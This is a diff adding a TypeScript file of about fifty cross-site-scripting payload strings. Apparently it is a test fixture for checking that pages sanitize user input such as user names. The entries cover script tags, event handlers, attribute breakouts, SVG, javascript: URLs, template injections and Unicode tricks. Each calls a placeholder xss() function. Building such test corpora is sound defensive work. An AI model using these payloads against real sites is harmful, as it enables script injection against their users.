@@ -1,0 +1,64 @@
+/**
+ * Texts that run `xss()`, or break out of where they stand, in a page that takes text for markup, a template, an address, a style or code. All fit into the
+ * shortest text that a user may choose: a user name of 64 characters.
+ */
+export const xssPayloads: readonly string[] = [
+  // Elements that run by being there.
+  '<script>xss()</script>',
+  '<SCRIPT SRC=data:,xss()></SCRIPT>',
+  '<scr<script>ipt>xss()</scr</script>ipt>',
+  '<script type=module>xss()</script>',
+  '</script><script>xss()</script>',
+  '</title></textarea></style><script>xss()</script>',
+  '<!--><script>xss()</script>-->',
+  '<![CDATA[><script>xss()</script>]]>',
+  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
+  '<template><script>xss()</script></template>',
+  // Handlers.
+  '<img src=x onerror=xss()>',
+  '<img src=x onerror="xss()" />',
+  '<img/src=x/onerror=xss()>',
+  '<IMG """><img src=x onerror=xss()>">',
+  '<video><source onerror=xss()></video>',
+  '<audio src=x onerror=xss()>',
+  '<body onload=xss()>',
+  '<input autofocus onfocus=xss()>',
+  '<details open ontoggle=xss()>x</details>',
+  '<marquee onstart=xss()>x</marquee>',
+  '<style onload=xss()></style>',
+  '<a href=# onmouseover=xss()>x</a>',
+  '<div style="animation:x 1s" onanimationstart=xss()>',
+  // Out of an attribute, out of a string.
+  '" autofocus onfocus=xss() x="',
+  '\' onmouseover=xss() x=\'',
+  '`onmouseover=xss()',
+  '";xss();//',
+  '\';xss();//',
+  '\\";xss();//',
+  '</textarea><img src=x onerror=xss()>',
+  // Other markup languages.
+  '<svg onload=xss()>',
+  '<svg><script>xss()</script></svg>',
+  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
+  '<svg><a xlink:href="javascript:xss()"><text>x</text></a></svg>',
+  '<math><mtext><img src=x onerror=xss()></mtext></math>',
+  // Documents and addresses.
+  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
+  '<iframe src="javascript:parent.xss()"></iframe>',
+  '<object data="data:text/html,<script>xss()</script>">',
+  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
+  '<base href="javascript:xss()//">',
+  'javascript:xss()',
+  'JaVaScRiPt:xss()//%0Axss()',
+  'data:text/html,<script>parent.xss()</script>',
+  // Templates.
+  '{{constructor.constructor("xss()")()}}',
+  '#{xss()}<%= xss() %>',
+  '<div v-html="xss()" @vue:mounted="xss()"></div>',
+  // Styles.
+  '<style>@import "javascript:xss()";*{color:red}</style>',
+  // Unicode: full width, hidden, turned round, and halves that meet.
+  '＜script＞xss()＜/script＞',
+  '\u202E<img src=x onerror=xss()>\u2066',
+  '<im\u200Bg src=x onerror=xss()>\uFEFF<svg\u00A0onload=xss()>',
+]
